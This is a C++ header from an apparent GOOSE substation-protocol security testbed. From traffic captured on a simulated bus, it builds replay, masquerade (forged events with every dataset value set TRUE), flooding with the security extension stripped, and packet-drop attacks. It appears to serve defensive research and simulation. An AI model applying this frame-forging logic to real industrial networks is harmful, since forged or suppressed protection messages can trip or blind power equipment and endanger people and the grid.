#pragma once

// Attack construction from captured traffic. Every technique works from a
// CaptureArchive the attacker filled by tapping the bus: replay re-injects
// a captured frame verbatim, masquerade forges the next event from the
// newest capture, flooding hammers copies of a capture with the security
// extension stripped, packet drop is a switch rule against the victim.

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "goosesec/bus_sim.hpp"
#include "goosesec/codec.hpp"
#include "goosesec/expected.hpp"
#include "goosesec/frame.hpp"

namespace goosesec {

enum class AttackKind { Replay, Masquerade, Flood, PacketDrop };

inline const char* to_string(AttackKind k) {
    switch (k) {
    case AttackKind::Replay: return "replay";
    case AttackKind::Masquerade: return "masquerade";
    case AttackKind::Flood: return "flood";
    case AttackKind::PacketDrop: return "drop";
    }
    return "?";
}

inline std::optional<AttackKind> attack_kind_from_string(const std::string& s) {
    if (s == "replay") return AttackKind::Replay;
    if (s == "masquerade") return AttackKind::Masquerade;
    if (s == "flood") return AttackKind::Flood;
    if (s == "drop") return AttackKind::PacketDrop;
    return std::nullopt;
}

struct AttackSpec {
    AttackKind kind = AttackKind::Replay;
    double trigger_at_ms = 0;

    // replay frame selection
    static constexpr int kEventFrame = -1;
    static constexpr int kLatestFrame = -2;
    int replay_index = kEventFrame;

    // flood
    double flood_rate_hz = 1000;
    double flood_duration_ms = 2000;
    bool flood_vary_sqnum = false;

    // packet drop: by window, or by count when drop_count > 0
    double drop_duration_ms = 3000;
    uint64_t drop_count = 0;
};

struct CapturedFrame {
    double t_ms = 0;
    Bytes raw;
};

class CaptureArchive {
public:
    void add(const Bytes& raw, double now) { frames_.push_back({now, raw}); }

    const std::vector<CapturedFrame>& frames() const { return frames_; }
    bool empty() const { return frames_.empty(); }
    size_t size() const { return frames_.size(); }

    // Earliest capture whose stNum differs from the first capture's and
    // whose sqNum restarted, i.e. the head of an observed event burst.
    std::optional<size_t> find_event_frame() const {
        std::optional<uint32_t> base_st;
        for (size_t i = 0; i < frames_.size(); ++i) {
            auto f = decode_frame(frames_[i].raw);
            if (!f) continue;
            if (!base_st) {
                base_st = f.value().pdu.apdu.st_num;
                continue;
            }
            if (f.value().pdu.apdu.st_num != *base_st && f.value().pdu.apdu.sq_num == 0)
                return i;
        }
        return std::nullopt;
    }

    std::optional<size_t> latest_decodable() const {
        for (size_t i = frames_.size(); i-- > 0;)
            if (decode_frame(frames_[i].raw)) return i;
        return std::nullopt;
    }

private:
    std::vector<CapturedFrame> frames_;
};

enum class AttackError { EmptyArchive, NoEventFrame, IndexOutOfRange, NoDecodableFrame };

inline const char* to_string(AttackError e) {
    switch (e) {
    case AttackError::EmptyArchive: return "capture archive is empty";
    case AttackError::NoEventFrame: return "no event burst captured yet";
    case AttackError::IndexOutOfRange: return "capture index out of range";
    case AttackError::NoDecodableFrame: return "no decodable capture";
    }
    return "?";
}

// Bit-exact copy of the selected capture.
inline Expected<Bytes, AttackError> replay_frame(const CaptureArchive& archive,
                                                 const AttackSpec& spec) {
    if (archive.empty()) return AttackError::EmptyArchive;
    size_t index = 0;
    if (spec.replay_index == AttackSpec::kEventFrame) {
        auto i = archive.find_event_frame();
        if (!i) return AttackError::NoEventFrame;
        index = *i;
    } else if (spec.replay_index == AttackSpec::kLatestFrame) {
        auto i = archive.latest_decodable();
        if (!i) return AttackError::NoDecodableFrame;
        index = *i;
    } else if (spec.replay_index >= 0 &&
               static_cast<size_t>(spec.replay_index) < archive.size()) {
        index = static_cast<size_t>(spec.replay_index);
    } else {
        return AttackError::IndexOutOfRange;
    }
    return archive.frames()[index].raw;
}

// Forged "next event": stNum + 1, sqNum 0, every dataset member forced
// TRUE. All other fields, including any captured extension, are carried
// over unchanged, so the forgery is wire-plausible but unauthenticated.
inline Expected<Bytes, AttackError> masquerade_frame(const CaptureArchive& archive) {
    if (archive.empty()) return AttackError::EmptyArchive;
    auto i = archive.latest_decodable();
    if (!i) return AttackError::NoDecodableFrame;
    GooseFrame f = decode_frame(archive.frames()[*i].raw).take();
    f.pdu.apdu.st_num += 1;
    f.pdu.apdu.sq_num = 0;
    for (size_t k = 0; k < f.pdu.apdu.all_data.size(); ++k) f.pdu.apdu.all_data[k] = true;
    auto bytes = encode_frame(f);
    if (!bytes) return AttackError::NoDecodableFrame;
    return bytes.take();
}

// Copies of the newest capture, security extension stripped, injected at a
// fixed rate for the configured window.
inline Expected<std::vector<TimedBytes>, AttackError> flood_frames(const CaptureArchive& archive,
                                                                   const AttackSpec& spec) {
    if (archive.empty()) return AttackError::EmptyArchive;
    auto i = archive.latest_decodable();
    if (!i) return AttackError::NoDecodableFrame;
    GooseFrame f = decode_frame(archive.frames()[*i].raw).take();
    f.pdu.set_security_extension(false);
    f.extension.clear();

    std::vector<TimedBytes> out;
    double gap_ms = 1000.0 / spec.flood_rate_hz;
    uint32_t base_sq = f.pdu.apdu.sq_num;
    for (uint64_t k = 0;; ++k) {
        double at = spec.trigger_at_ms + static_cast<double>(k) * gap_ms;
        if (at >= spec.trigger_at_ms + spec.flood_duration_ms) break;
        if (spec.flood_vary_sqnum) f.pdu.apdu.sq_num = base_sq + static_cast<uint32_t>(k);
        auto bytes = encode_frame(f);
        if (!bytes) return AttackError::NoDecodableFrame;
        out.push_back({at, bytes.take()});
    }
    return out;
}

inline SwitchRule drop_rule(const AttackSpec& spec, const MacAddress& victim_src) {
    SwitchRule rule;
    rule.name = "packet-drop";
    rule.match_src = victim_src;
    rule.from_ms = spec.trigger_at_ms;
    if (spec.drop_count > 0)
        rule.remaining = spec.drop_count;
    else
        rule.until_ms = spec.trigger_at_ms + spec.drop_duration_ms;
    return rule;
}

} // namespace goosesec
